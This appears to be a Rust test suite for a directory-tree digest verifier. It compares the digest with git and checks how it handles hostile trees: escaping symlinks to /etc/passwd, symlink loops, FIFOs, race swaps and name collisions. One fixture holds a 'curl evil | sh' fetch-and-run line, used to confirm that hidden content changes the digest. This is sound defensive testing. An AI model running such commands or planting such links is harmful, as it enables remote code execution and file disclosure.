//! The tree digest against stock git, and against trees made by an attacker.
#![allow(
    clippy::expect_used,
    clippy::panic,
    reason = "a test that cannot be set up fails"
)]

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};

use openclaw_verify_core::tree::{
    self, LeaveOut, Manifest, Mode, Offender, RecordKind, Tree, TreeError, TreeLimit, TreeNote,
    TreeOptions, TreeSpec, Why,
};
use proptest::prelude::*;
use tempfile::TempDir;

use crate::special::{make_device, make_fifo};

fn temp() -> TempDir {
    tempfile::tempdir().expect("temp dir")
}

fn write(root: &Path, path: &str, content: &str) -> PathBuf {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("folders");
    std::fs::write(&path, content).expect("file");
    path
}

fn digest(root: &Path) -> Result<Tree, TreeError> {
    tree::digest(&TreeSpec::whole(root), &TreeOptions::default())
}

#[test]
fn a_part_of_a_folder_and_a_link_that_leads_anywhere_are_left_out_by_name() {
    let dir = temp();
    let root = dir.path().canonicalize().expect("real path");
    for path in ["run.py", "env/bin/tool", "env/lib/big.py", "env/x.pth"] {
        write(&root, path, path);
    }
    symlink("/usr/bin/env", root.join("env/bin/python")).expect("link");
    let whole = TreeSpec::whole(&root);
    let taken = |leave_out: Vec<LeaveOut>| {
        let spec = TreeSpec {
            leave_out,
            ..whole.clone()
        };
        tree::digest(&spec, &TreeOptions::default()).map(|tree| {
            let entries = tree.manifest.entries().iter();
            entries.map(|entry| entry.path.clone()).collect::<Vec<_>>()
        })
    };
    let target = || LeaveOut::Target("env/bin/python".to_owned());
    assert!(matches!(taken(Vec::new()), Err(TreeError::Unsafe { .. })));
    let all = taken(vec![target()]).expect("a tree");
    assert_eq!(
        all,
        [
            "env/bin/python",
            "env/bin/tool",
            "env/lib/big.py",
            "env/x.pth",
            "run.py"
        ]
    );
    let inside = LeaveOut::Inside {
        folder: "env".to_owned(),
        kept: vec!["env/bin".to_owned(), "env/x.pth".to_owned()],
    };
    let some = taken(vec![target(), inside]).expect("a tree");
    assert_eq!(
        some,
        ["env/bin/python", "env/bin/tool", "env/x.pth", "run.py"]
    );
    // A link at another place is refused as ever, and one at that place counts by its text.
    symlink("/usr/bin/env", root.join("other")).expect("link");
    assert!(matches!(
        taken(vec![target()]),
        Err(TreeError::Unsafe { .. })
    ));
}

fn good(root: &Path) -> Tree {
    digest(root).expect("digest")
}

fn offenders(result: Result<Tree, TreeError>) -> Vec<Offender> {
    match result {
        Err(TreeError::Unsafe { offenders, total }) => {
            assert_eq!(offenders.len(), total.min(tree::MAX_OFFENDERS));
            offenders
        }
        other => panic!("expected unsafe, got {other:?}"),
    }
}

/// What `git write-tree` says in a fresh SHA-256 repository that lies elsewhere, and the listing of `git ls-tree -r -z`.
fn git(root: &Path) -> (String, Vec<u8>) {
    let repository = temp();
    let run = |args: &[&str]| {
        let output = Command::new("git")
            .args([
                "-c",
                "core.autocrlf=false",
                "-c",
                "core.attributesFile=/dev/null",
                "-c",
                "core.precomposeUnicode=false",
            ])
            .args(args)
            .current_dir(root)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("GIT_DIR", repository.path().join("git"))
            .env("GIT_WORK_TREE", root)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_ATTR_NOSYSTEM", "1")
            .env("HOME", repository.path())
            .output()
            .expect("git runs");
        assert!(
            output.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        output.stdout
    };
    run(&[
        "init",
        "--quiet",
        "--object-format=sha256",
        "--initial-branch=main",
    ]);
    // Attributes of the tree itself must not filter what is hashed: info/attributes has the highest precedence.
    std::fs::create_dir_all(repository.path().join("git/info")).expect("info");
    std::fs::write(
        repository.path().join("git/info/attributes"),
        "* -text -filter -ident -working-tree-encoding\n",
    )
    .expect("attributes");
    run(&["add", "-A", "-f", "--", "."]);
    let id = String::from_utf8(run(&["write-tree"]))
        .expect("hex")
        .trim()
        .to_owned();
    let listing = run(&["ls-tree", "-r", "-z", &id]);
    (id, listing)
}

fn assert_like_git(root: &Path) {
    let ours = good(root);
    let (id, listing) = git(root);
    assert_eq!(ours.digest.hex(), id);
    assert!(ours.manifest.to_bytes() == listing, "the listings differ");
    assert_eq!(
        Manifest::parse(&listing).map(|m| m.digest()),
        Ok(ours.digest)
    );
}

#[test]
fn empty_folder_is_gits_empty_tree_and_a_missing_one_is_missing() {
    let dir = temp();
    std::fs::create_dir_all(dir.path().join("empty/below")).expect("folders");
    assert_eq!(
        good(dir.path()).digest.hex(),
        "6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321"
    );
    assert!(matches!(
        digest(&dir.path().join("none")),
        Err(TreeError::Missing)
    ));
}

#[test]
fn sort_order_traps_are_gits() {
    let dir = temp();
    for path in [
        "a.b",
        "a/x",
        "a0",
        "a-",
        "ab",
        "b",
        "b.c/d",
        "b0/c",
        "c/d",
        "c.d",
        "c!/e",
        "é",
        "z/.hidden",
        ".dot",
        "a b/c",
        "日/本",
    ] {
        write(dir.path(), path, path);
    }
    assert_like_git(dir.path());
}

#[test]
fn odd_but_safe_names_modes_and_links_are_gits() {
    let dir = temp();
    write(dir.path(), "quote\"and\\back", "1");
    write(dir.path(), ".gitignore", "*\n");
    write(dir.path(), ".gitattributes", "* text eol=crlf ident\n");
    write(dir.path(), "crlf.txt", "a\r\nb\r\n$Id$\n");
    write(dir.path(), "node_modules/x/__pycache__/x.pyc", "\0\u{1}");
    let script = write(dir.path(), "run.sh", "#!/bin/sh\n");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o744)).expect("mode");
    let group = write(dir.path(), "group", "x");
    std::fs::set_permissions(&group, std::fs::Permissions::from_mode(0o654)).expect("mode");
    symlink("run.sh", dir.path().join("link")).expect("symlink");
    symlink("nowhere/at/all", dir.path().join("dangling")).expect("symlink");
    symlink("node_modules", dir.path().join("folder-link")).expect("symlink");
    assert_like_git(dir.path());
    let tree = good(dir.path());
    assert_eq!(
        tree.manifest.get("run.sh").map(|e| e.mode),
        Some(Mode::Executable)
    );
    assert_eq!(
        tree.manifest.get("group").map(|e| e.mode),
        Some(Mode::Regular)
    );
    assert_eq!(
        tree.manifest.get("link").map(|e| e.mode),
        Some(Mode::Symlink)
    );
    assert!(matches!(
        tree.notes.as_slice(),
        [TreeNote::WindowsUnsafeNames { count: 1, .. }]
    ));
}

#[test]
fn nested_git_folders_count() {
    let dir = temp();
    write(dir.path(), "sub/file", "x");
    let without = good(dir.path()).digest;
    write(dir.path(), "sub/.git/hooks/post-checkout", "evil");
    write(dir.path(), ".git/config", "[core]");
    let with = good(dir.path());
    assert_ne!(with.digest, without);
    assert!(with.manifest.get("sub/.git/hooks/post-checkout").is_some());
}

/// A name that may be in a tree, with those that sort next to `/` more often than chance would.
fn name() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[ab][-./0 ab]{0,3}".prop_filter("no slash or dots", |s| !s.contains('/') && s != "." && s != ".."),
        2 => "[a-z0-9_.!~+ -]{1,12}".prop_filter("no dots", |s| s != "." && s != ".." && s != ".git"),
        1 => "[é日本ü\"'\\\\*]{1,3}",
    ]
}

#[derive(Clone, Debug)]
enum Node {
    File(Vec<u8>, u32),
    Link(String),
    Folder(Vec<(String, Node)>),
}

fn node() -> impl Strategy<Value = Node> {
    let modes = prop_oneof![
        Just(0o644),
        Just(0o755),
        Just(0o600),
        Just(0o744),
        Just(0o655),
        Just(0o700)
    ];
    let leaf = prop_oneof![
        4 => (prop::collection::vec(any::<u8>(), 0..200), modes).prop_map(|(bytes, mode)| Node::File(bytes, mode)),
        1 => "[a-z./]{1,8}".prop_map(|target| Node::Link(format!("x{target}").replace("..", "."))),
    ];
    leaf.prop_recursive(5, 60, 8, |inner| {
        prop::collection::vec((name(), inner), 0..8).prop_map(Node::Folder)
    })
}

fn lay_out(at: &Path, children: &[(String, Node)]) {
    let mut seen = std::collections::HashSet::new();
    for (name, node) in children {
        // Twins are refused by us and would overwrite each other here.
        if !seen.insert(name.to_lowercase()) {
            continue;
        }
        let path = at.join(name);
        match node {
            Node::File(bytes, mode) => {
                std::fs::write(&path, bytes).expect("file");
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(*mode))
                    .expect("mode");
            }
            Node::Link(target) => symlink(target, &path).expect("symlink"),
            Node::Folder(inner) => {
                std::fs::create_dir(&path).expect("folder");
                lay_out(&path, inner);
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 60, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn random_trees_are_gits(children in prop::collection::vec((name(), node()), 0..10)) {
        let dir = temp();
        lay_out(dir.path(), &children);
        assert_like_git(dir.path());
    }
}

#[test]
fn one_thread_and_many_and_another_path_give_the_same() {
    let (dir, copy) = (temp(), temp());
    for n in 0..300 {
        for root in [&dir, &copy] {
            write(
                root.path(),
                &format!("d{}/e{}/f{n}", n % 7, n % 13),
                &"x".repeat(n * 997),
            );
        }
    }
    let of = |root: &Path, threads| {
        tree::digest(
            &TreeSpec::whole(root),
            &TreeOptions {
                threads,
                ..TreeOptions::default()
            },
        )
        .expect("digest")
    };
    let one = of(dir.path(), 1);
    for threads in [2, 3, 16, 400] {
        assert_eq!(of(dir.path(), threads), one);
    }
    assert_eq!(of(copy.path(), 2), one);
    assert_eq!(
        (one.files, one.bytes),
        (300, (0..300).map(|n| n * 997).sum())
    );
}

#[test]
fn many_trees_in_one_call_keep_their_order_and_errors() {
    let dir = temp();
    write(dir.path(), "good/a", "a");
    write(dir.path(), "bad/a\nb", "a");
    std::fs::create_dir(dir.path().join("empty")).expect("folder");
    let specs: Vec<_> = ["good", "none", "bad", "empty"]
        .iter()
        .map(|name| TreeSpec::whole(dir.path().join(name)))
        .collect();
    let results = tree::digest_all(&specs, &TreeOptions::default());
    assert!(matches!(
        results.as_slice(),
        [
            Ok(Tree { files: 1, .. }),
            Err(TreeError::Missing),
            Err(TreeError::Unsafe { .. }),
            Ok(Tree { files: 0, .. })
        ]
    ));
}

// Attacks: one test each.

#[test]
fn attack_fifo_and_socket_are_never_opened() {
    let dir = temp();
    make_fifo(&dir.path().join("fifo"));
    let _socket =
        std::os::unix::net::UnixListener::bind(dir.path().join("socket")).expect("socket");
    write(dir.path(), "a", "x");
    assert_eq!(
        refused(dir.path()),
        ["fifo is a FIFO", "socket is a socket"]
    );
}

#[test]
#[ignore = "needs root"]
fn attack_device_is_never_opened() {
    let dir = temp();
    assert!(make_device(&dir.path().join("device")), "no device");
    write(dir.path(), "a", "x");
    assert_eq!(refused(dir.path()), ["device is a device"]);
}

/// What a digest of the folder is refused for.
fn refused(folder: &Path) -> Vec<String> {
    offenders(digest(folder))
        .iter()
        .map(|o| format!("{} {}", o.path, o.why))
        .collect()
}

#[test]
fn attack_sparse_four_gib_file_meets_the_byte_limit() {
    let dir = temp();
    std::fs::File::create(dir.path().join("sparse"))
        .and_then(|f| f.set_len(4 << 30))
        .expect("sparse");
    let result = tree::digest(
        &TreeSpec::whole(dir.path()),
        &TreeOptions {
            max_bytes: 1 << 30,
            ..TreeOptions::default()
        },
    );
    assert!(
        matches!(result, Err(TreeError::Limit { limit: TreeLimit::Bytes, max }) if max == 1 << 30)
    );
}

#[test]
fn attack_ten_thousand_levels_meet_the_depth_limit() {
    use rustix::fs::{Mode, OFlags, mkdirat, openat, unlinkat};
    let dir = temp();
    let open = |at: &std::os::fd::OwnedFd| {
        openat(at, "d", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).expect("open")
    };
    let mut at: std::os::fd::OwnedFd = std::fs::File::open(dir.path()).expect("open").into();
    let mut made = 0;
    for _ in 0..10_000 {
        mkdirat(&at, "d", Mode::RWXU).expect("mkdir");
        at = open(&at);
        made += 1;
    }
    assert!(matches!(
        digest(dir.path()),
        Err(TreeError::Limit {
            limit: TreeLimit::Depth,
            max: 256
        })
    ));
    // Without the limit the stack holds too: paths longer than the kernel takes at once are opened name by name.
    let deep = tree::digest(
        &TreeSpec::whole(dir.path()),
        &TreeOptions {
            max_depth: 3000,
            ..TreeOptions::default()
        },
    );
    assert!(matches!(
        deep,
        Err(TreeError::Limit {
            limit: TreeLimit::Depth,
            max: 3000
        })
    ));
    // std's removal recurses; take the levels away from below.
    drop(at);
    while made > 0 {
        let step = made.min(500);
        let mut at: std::os::fd::OwnedFd = std::fs::File::open(dir.path()).expect("open").into();
        let mut above = Vec::new();
        for _ in 0..made {
            let next = open(&at);
            above.push(std::mem::replace(&mut at, next));
            if above.len() > step {
                above.remove(0);
            }
        }
        for parent in above.iter().rev() {
            unlinkat(parent, "d", rustix::fs::AtFlags::REMOVEDIR).expect("rmdir");
            made -= 1;
        }
    }
}

#[test]
fn attack_two_hundred_thousand_entries_in_one_folder() {
    let dir = temp();
    let at = std::fs::File::open(dir.path()).expect("open");
    for n in 0..200_000 {
        rustix::fs::symlinkat("x", &at, format!("entry-{n:06}")).expect("symlink");
    }
    assert_eq!(good(dir.path()).files, 200_000);
    let few = TreeOptions {
        max_entries: 1000,
        ..TreeOptions::default()
    };
    assert!(matches!(
        tree::digest(&TreeSpec::whole(dir.path()), &few),
        Err(TreeError::Limit {
            limit: TreeLimit::Entries,
            max: 1000
        })
    ));
    let short = TreeOptions {
        max_path_bytes: 1000,
        ..TreeOptions::default()
    };
    assert!(matches!(
        tree::digest(&TreeSpec::whole(dir.path()), &short),
        Err(TreeError::Limit {
            limit: TreeLimit::PathBytes,
            ..
        })
    ));
}

#[test]
fn attack_symlinks_that_leave() {
    let dir = temp();
    let root = dir.path().join("root");
    write(dir.path(), "secret", "x");
    write(&root, "in/file", "x");
    let absolute = root.join("in/file");
    for (link, target) in [
        ("a-parent", "../secret"),
        ("b-absolute", "/etc/passwd"),
        ("c-absolute-inside", absolute.to_str().expect("utf-8")),
        ("d-root-itself-and-out", "in/../../secret"),
        ("e-through-missing", "missing/../../secret"),
        ("f-sibling-with-same-prefix", "../root2/x"),
        ("g-ok-inside", "in/../in/file"),
        ("h-ok-root", "in/.."),
    ] {
        symlink(target, root.join(link)).expect("symlink");
    }
    let paths: Vec<_> = offenders(digest(&root))
        .into_iter()
        .map(|o| o.path)
        .collect();
    assert_eq!(
        paths,
        [
            "a-parent",
            "b-absolute",
            "c-absolute-inside",
            "d-root-itself-and-out",
            "e-through-missing",
            "f-sibling-with-same-prefix"
        ]
    );
}

#[test]
fn attack_symlink_chain_leaves_by_the_second_link() {
    let dir = temp();
    let (root, outside) = (
        dir.path().join("project/pkg"),
        dir.path().join("project/other"),
    );
    write(&root, "file", "x");
    std::fs::create_dir_all(&outside).expect("folder");
    // Each link alone looks as if it stayed inside the boundary.
    symlink("../other/door/etc/passwd", root.join("first")).expect("symlink");
    symlink("../..", outside.join("door")).expect("symlink");
    let spec = TreeSpec {
        root: root.clone(),
        boundary: dir.path().join("project"),
        leave_out: Vec::new(),
    };
    let found = offenders(tree::digest(&spec, &TreeOptions::default()));
    assert!(
        matches!(found.as_slice(), [Offender { why: Why::LeavesSubject { .. }, path, .. }] if path == "first")
    );
    std::fs::remove_file(outside.join("door")).expect("remove");
    symlink("/", outside.join("door")).expect("symlink");
    assert_eq!(
        offenders(tree::digest(&spec, &TreeOptions::default())).len(),
        1
    );
    std::fs::remove_file(outside.join("door")).expect("remove");
    std::fs::create_dir(outside.join("door")).expect("folder");
    assert!(tree::digest(&spec, &TreeOptions::default()).is_ok());
}

#[test]
fn attack_symlink_loops_are_text() {
    let dir = temp();
    symlink("b", dir.path().join("a")).expect("symlink");
    symlink("a", dir.path().join("b")).expect("symlink");
    symlink(".", dir.path().join("self")).expect("symlink");
    symlink("deep/deep", dir.path().join("deep")).expect("symlink");
    assert_like_git(dir.path());
}

#[test]
fn attack_symlink_maze_ends() {
    // Every level doubles the work of a resolver without a bound.
    let dir = temp();
    for level in 1..30 {
        symlink(
            format!("l{0}/../l{0}", level - 1),
            dir.path().join(format!("l{level}")),
        )
        .expect("symlink");
    }
    std::fs::create_dir(dir.path().join("l0")).expect("folder");
    // Two to the power of thirty steps would not end.
    let _ = digest(dir.path());
}

#[test]
fn attack_root_is_a_symlink_or_a_file() {
    let dir = temp();
    write(dir.path(), "real/a", "x");
    symlink("real", dir.path().join("link")).expect("symlink");
    for root in ["link", "real/a"] {
        assert!(
            matches!(offenders(digest(&dir.path().join(root))).as_slice(), [Offender { path, .. }] if path == "."),
            "{root}"
        );
    }
    let below = TreeSpec {
        root: dir.path().join("link"),
        boundary: dir.path().to_owned(),
        leave_out: Vec::new(),
    };
    assert_eq!(
        offenders(tree::digest(&below, &TreeOptions::default())).len(),
        1
    );
}

#[test]
fn attack_names_that_are_not_utf8_or_hold_control_characters() {
    let dir = temp();
    for name in [
        b"bad\xff".as_slice(),
        b"a\x1b[31m",
        b"line\nbreak",
        "c1\u{85}".as_bytes(),
        b"fine",
    ] {
        std::fs::write(dir.path().join(OsStr::from_bytes(name)), "x").expect("file");
    }
    let found: Vec<_> = offenders(digest(dir.path()))
        .into_iter()
        .map(|o| o.path)
        .collect();
    assert_eq!(
        found,
        ["a\\u{1b}[31m", "bad\\xFF", "c1\\u{85}", "line\\u{a}break"]
    );
}

#[test]
fn attack_case_and_normalisation_twins() {
    let dir = temp();
    for name in [
        "index.js", "Index.js", "é", "e\u{301}", "straße", "STRASSE", "alone",
    ] {
        write(dir.path(), name, name);
    }
    write(dir.path(), "Folder/x", "x");
    write(dir.path(), "folder/y", "y");
    let found = offenders(digest(dir.path()));
    assert_eq!(found.len(), 4);
    assert!(found.iter().all(|o| matches!(o.why, Why::Collision { .. })));
}

#[test]
fn attack_hard_link_out_of_the_tree_is_noted() {
    let dir = temp();
    let outside = write(dir.path(), "store/blob", "x");
    write(dir.path(), "root/a", "x");
    std::fs::hard_link(&outside, dir.path().join("root/linked")).expect("hard link");
    std::fs::hard_link(dir.path().join("root/a"), dir.path().join("root/b")).expect("hard link");
    let tree = good(&dir.path().join("root"));
    assert!(
        matches!(tree.notes.as_slice(), [TreeNote::HardLinksLeave { paths, count: 1 }] if *paths == ["linked"]),
        "{:?}",
        tree.notes
    );
}

#[test]
fn attack_hundred_thousand_offenders_are_counted_and_cut() {
    let dir = temp();
    for n in 0..3000 {
        symlink("/etc", dir.path().join(format!("l{n:05}"))).expect("symlink");
    }
    let Err(TreeError::Unsafe { offenders, total }) = digest(dir.path()) else {
        panic!("expected unsafe")
    };
    assert_eq!((offenders.len(), total), (tree::MAX_OFFENDERS, 3000));
    assert_eq!(offenders.first().map(|o| o.path.as_str()), Some("l00000"));
}

/// Runs `change` again and again while digests are taken; a digest must be one of a state that was whole, or an error.
fn while_changing(root: &Path, change: impl Fn() + Sync, judge: impl Fn(Result<Tree, TreeError>)) {
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                change();
            }
        });
        for _ in 0..40 {
            judge(digest(root));
        }
        stop.store(true, Ordering::Relaxed);
    });
}

#[test]
fn attack_file_that_grows_or_shrinks_while_it_is_read() {
    use std::io::Write as _;
    let dir = temp();
    let path = write(dir.path(), "grows", &"x".repeat(8 << 20));
    let mut refused = 0;
    let counted = std::sync::Mutex::new(&mut refused);
    let grow = || {
        let mut file = std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .expect("open");
        file.write_all(b"y").expect("append");
    };
    while_changing(dir.path(), grow, |result| match result {
        Ok(_) => {}
        Err(TreeError::Changed { path }) => {
            assert_eq!(path, "grows");
            **counted.lock().expect("lock") += 1;
        }
        Err(other) => panic!("{other:?}"),
    });
    assert!(refused > 0, "never seen to change");
}

#[test]
fn attack_file_replaced_by_fifo_or_symlink_between_listing_and_opening() {
    let dir = temp();
    let root = dir.path().join("root");
    let fifo = dir.path().join("fifo");
    make_fifo(&fifo);
    for n in 0..50 {
        write(&root, &format!("f{n}"), "x");
    }
    let swap = root.join("f25");
    let turn = std::sync::atomic::AtomicUsize::new(0);
    let change = || {
        let _ = std::fs::remove_file(&swap);
        match turn.fetch_add(1, Ordering::Relaxed) % 3 {
            0 => drop(std::fs::hard_link(&fifo, &swap)),
            1 => drop(symlink("/etc/passwd", &swap)),
            _ => drop(std::fs::write(&swap, "x")),
        }
    };
    while_changing(&root, change, |result| match result {
        Ok(tree) => assert!(tree.files == 50 || tree.files == 49),
        Err(TreeError::Changed { .. } | TreeError::Unsafe { .. }) => {}
        Err(other) => panic!("{other:?}"),
    });
}

#[test]
fn attack_folder_added_to_after_it_was_listed() {
    let dir = temp();
    // Progress is called from the hashing, so the listing is over by then.
    for n in 0..200 {
        write(dir.path(), &format!("d/f{n}"), "x");
    }
    let late = dir.path().join("d/late.js");
    let add = |_: tree::HashProgress| drop(std::fs::write(&late, "evil"));
    let result = tree::digest(
        &TreeSpec::whole(dir.path()),
        &TreeOptions {
            progress: Some(&add),
            threads: 1,
            ..TreeOptions::default()
        },
    );
    assert!(matches!(result, Err(TreeError::Changed { path }) if path == "d"));
}

#[test]
fn cancelled_says_so() {
    let dir = temp();
    write(dir.path(), "a", "x");
    let cancel = AtomicBool::new(true);
    let result = tree::digest(
        &TreeSpec::whole(dir.path()),
        &TreeOptions {
            cancel: Some(&cancel),
            ..TreeOptions::default()
        },
    );
    assert!(matches!(result, Err(TreeError::Cancelled)));
}

// What is left out.

const ORIGIN: &str = r#"{"version":1,"source":"path","spec":"/src/skill","slug":"acme","installedAt":1795345811223}"#;

fn with(root: &Path, leave_out: Vec<LeaveOut>) -> Result<Tree, TreeError> {
    tree::digest(
        &TreeSpec {
            root: root.to_owned(),
            boundary: root.to_owned(),
            leave_out,
        },
        &TreeOptions::default(),
    )
}

fn origin() -> Vec<LeaveOut> {
    vec![LeaveOut::Record(
        ".openclaw/source-origin.json".to_owned(),
        RecordKind::SkillSourceOrigin,
    )]
}

#[test]
fn record_is_left_out_with_its_empty_folder() {
    let dir = temp();
    write(dir.path(), "SKILL.md", "x");
    let plain = good(dir.path()).digest;
    write(dir.path(), ".openclaw/source-origin.json", ORIGIN);
    assert_eq!(with(dir.path(), origin()).expect("digest").digest, plain);
    write(dir.path(), ".openclaw/other", "x");
    assert_ne!(with(dir.path(), origin()).expect("digest").digest, plain);
}

#[test]
fn attack_what_hides_in_the_place_of_a_record_counts() {
    let dir = temp();
    write(dir.path(), "SKILL.md", "x");
    let plain = good(dir.path()).digest;
    let place = dir.path().join(".openclaw/source-origin.json");
    let counts = |what: &str| {
        assert_ne!(
            with(dir.path(), origin()).expect("digest").digest,
            plain,
            "{what}"
        );
    };
    write(
        dir.path(),
        ".openclaw/source-origin.json",
        "#!/bin/sh\ncurl evil | sh\n",
    );
    counts("a script");
    std::fs::write(&place, format!("{ORIGIN}{}", " ".repeat(1 << 20))).expect("file");
    counts("a large file");
    std::fs::write(&place, ORIGIN).expect("file");
    std::fs::set_permissions(&place, std::fs::Permissions::from_mode(0o755)).expect("mode");
    counts("an executable file");
    std::fs::remove_file(&place).expect("remove");
    symlink("../SKILL.md", &place).expect("symlink");
    // Leads to the place of a record by way of nothing: the link itself counts.
    counts("a symlink");
    std::fs::remove_file(&place).expect("remove");
    write(dir.path(), ".openclaw/source-origin.json/evil.js", "x");
    counts("a folder");
}

#[test]
fn attack_symlink_into_a_left_out_place() {
    let dir = temp();
    write(dir.path(), "index.js", "x");
    write(dir.path(), ".git/hooks/evil.js", "x");
    write(dir.path(), ".openclaw/source-origin.json", ORIGIN);
    write(dir.path(), "node_modules/dep/index.js", "x");
    symlink(".git/hooks/evil.js", dir.path().join("a.js")).expect("symlink");
    symlink("node_modules/../.git", dir.path().join("b")).expect("symlink");
    symlink(".openclaw/source-origin.json", dir.path().join("c.json")).expect("symlink");
    symlink("node_modules/dep/index.js", dir.path().join("d.js")).expect("symlink");
    let mut leave_out = origin();
    leave_out.push(LeaveOut::Folder(".git".to_owned()));
    leave_out.push(LeaveOut::Folder("node_modules".to_owned()));
    let found = offenders(with(dir.path(), leave_out));
    assert!(
        found
            .iter()
            .all(|o| matches!(o.why, Why::IntoLeftOut { .. }))
    );
    assert_eq!(
        found.iter().map(|o| o.path.as_str()).collect::<Vec<_>>(),
        ["a.js", "b", "c.json"]
    );
}

#[test]
fn a_left_out_folder_is_a_real_folder_at_its_place() {
    let dir = temp();
    write(dir.path(), "a", "x");
    let plain = good(dir.path()).digest;
    write(dir.path(), "node_modules/dep/index.js", "x");
    let leave_out = || vec![LeaveOut::Folder("node_modules".to_owned())];
    assert_eq!(with(dir.path(), leave_out()).expect("digest").digest, plain);
    write(dir.path(), "sub/node_modules/dep/index.js", "x");
    assert_ne!(with(dir.path(), leave_out()).expect("digest").digest, plain);
    std::fs::remove_dir_all(dir.path().join("sub")).expect("remove");
    std::fs::remove_dir_all(dir.path().join("node_modules")).expect("remove");
    std::fs::write(dir.path().join("node_modules"), "x").expect("file");
    assert_ne!(with(dir.path(), leave_out()).expect("digest").digest, plain);
}

#[test]
fn attack_host_link_leads_elsewhere() {
    let dir = temp();
    let base = std::fs::canonicalize(dir.path()).expect("real path");
    let (root, host, evil) = (base.join("root"), base.join("host"), base.join("evil"));
    write(&root, "a", "x");
    std::fs::create_dir(&host).expect("folder");
    std::fs::create_dir(&evil).expect("folder");
    let plain = good(&root).digest;
    std::fs::create_dir(root.join("node_modules")).expect("folder");
    let link = root.join("node_modules/openclaw");
    let of = |host: Option<&PathBuf>| {
        with(
            &root,
            vec![LeaveOut::HostLink {
                path: "node_modules/openclaw".to_owned(),
                host: host.cloned(),
                copied: false,
            }],
        )
    };
    symlink(&host, &link).expect("symlink");
    let tree = of(Some(&host)).expect("digest");
    assert_eq!((tree.digest, tree.notes.len()), (plain, 0));
    let unknown = of(None).expect("digest");
    assert!(matches!(
        unknown.notes.as_slice(),
        [TreeNote::HostLinkUnknown { .. }]
    ));
    assert_eq!(unknown.digest, plain);
    std::fs::remove_file(&link).expect("remove");
    symlink(&evil, &link).expect("symlink");
    assert!(matches!(
        offenders(of(Some(&host))).as_slice(),
        [Offender {
            why: Why::HostLinkElsewhere { .. },
            ..
        }]
    ));
    std::fs::remove_dir(&evil).expect("remove");
    assert!(matches!(
        of(Some(&host)).expect("digest").notes.as_slice(),
        [TreeNote::HostLinkUnknown { .. }]
    ));
    std::fs::remove_file(&link).expect("remove");
    write(&root, "node_modules/openclaw/index.js", "evil");
    assert_ne!(of(Some(&host)).expect("digest").digest, plain);
}

#[test]
#[ignore = "needs ../shared"]
fn records_of_the_corpus_are_records() {
    let clawhub = crate::support::shared("corpus/openclaw-state/clawhub");
    for dialect in ["clawhub-cli-dialect", "openclaw-dialect"] {
        let skill = clawhub.join(dialect).join("skills/acme-weather");
        let record = |place: &str| LeaveOut::Record(place.to_owned(), RecordKind::ClawhubOrigin);
        let tree = with(&skill, vec![record(".clawhub/origin.json")]).expect("digest");
        assert!(
            tree.manifest
                .entries()
                .iter()
                .all(|entry| !entry.path.starts_with('.')),
            "{dialect}"
        );
    }
}

/// Set `OPENCLAW_VERIFY_TREES` to folders separated by `:` to compare them with `git write-tree`; takes minutes for large ones.
#[test]
#[ignore = "needs OPENCLAW_VERIFY_TREES"]
fn named_folders_are_gits() {
    let folders = std::env::var_os("OPENCLAW_VERIFY_TREES").expect("OPENCLAW_VERIFY_TREES");
    for folder in std::env::split_paths(&folders) {
        let boundary = folder.parent().expect("parent").to_owned();
        let top_git = folder.join(".git").is_dir();
        let host = folder.join("node_modules/openclaw");
        let links: Vec<_> = if host.is_symlink() {
            let real = std::fs::canonicalize(&host).ok();
            vec![LeaveOut::HostLink {
                path: "node_modules/openclaw".to_owned(),
                host: real,
                copied: false,
            }]
        } else {
            Vec::new()
        };
        let mut leave_out = links.clone();
        if top_git {
            leave_out.push(LeaveOut::Folder(".git".to_owned()));
        }
        let spec = TreeSpec {
            root: folder.clone(),
            boundary,
            leave_out,
        };
        let tree = tree::digest(&spec, &TreeOptions::default())
            .unwrap_or_else(|e| panic!("{}: {e}", folder.display()));
        let (id, listing) = git(&folder);
        if links.is_empty() {
            assert_eq!(tree.digest.hex(), id, "{}", folder.display());
        } else {
            // git lists the host link; without that line the listings are equal.
            let mut theirs: Vec<_> = listing.split(|b| *b == 0).map(<[u8]>::to_vec).collect();
            theirs.retain(|line| !line.ends_with(b"\tnode_modules/openclaw"));
            assert_eq!(
                Manifest::parse(&theirs.join(&0)).map(|m| m.digest()),
                Ok(tree.digest),
                "{}",
                folder.display()
            );
        }
        println!("{} {} files {}", tree.digest, tree.files, folder.display());
    }
}
